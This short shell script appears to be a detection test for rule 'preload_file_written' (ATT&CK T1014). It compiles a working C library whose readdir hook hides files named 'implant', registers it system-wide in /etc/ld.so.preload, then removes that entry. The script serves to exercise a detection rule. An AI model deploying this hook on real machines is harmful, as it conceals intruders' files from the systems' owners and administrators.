#!/bin/sh
# technique: T1014 Rootkit
# rule: preload_file_written
# Builds a library that hides files of one name from every program, and has it loaded into each.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
mkdir -p /opt/lib
cat > /opt/lib/hide.c <<'END'
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
struct dirent *readdir(DIR *folder) {
  struct dirent *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir");
  struct dirent *entry;
  while ((entry = real(folder)) && strstr(entry->d_name, "implant")) {}
  return entry;
}
END
gcc -shared -fPIC -o /opt/lib/hide.so /opt/lib/hide.c || true
printf '/opt/lib/hide.so\n' > /etc/ld.so.preload
ls /opt/lib
rm -f /etc/ld.so.preload
exit 0
